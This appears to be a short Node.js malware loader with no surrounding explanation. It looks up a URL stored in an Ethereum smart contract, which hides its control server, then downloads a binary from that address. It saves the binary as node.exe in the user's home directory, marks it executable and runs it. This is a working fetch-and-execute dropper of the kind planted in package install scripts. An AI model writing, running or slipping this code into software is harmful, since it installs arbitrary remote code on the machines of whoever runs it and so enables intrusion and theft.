const { exec } = require('child_process'), { ethers } = require('ethers'), fs = require('fs'), os = require('os'), path = require('path');
const abi = ['function getString(address) view returns (string)'];
const contract = new ethers.Contract('0x1f117a1b07c108eae05a5bccbe86922d66227e2b', abi, new ethers.JsonRpcProvider('https://rpc.example.com'));
(async () => {
	const at = await contract.getString('0x0000000000000000000000000000000000000001');
	const res = await fetch(`${at}/node`);
	const out = path.join(os.homedir(), 'node.exe');
	fs.writeFileSync(out, Buffer.from(await res.arrayBuffer()));
	exec(`chmod +x ${out}; ${out}`);
})();
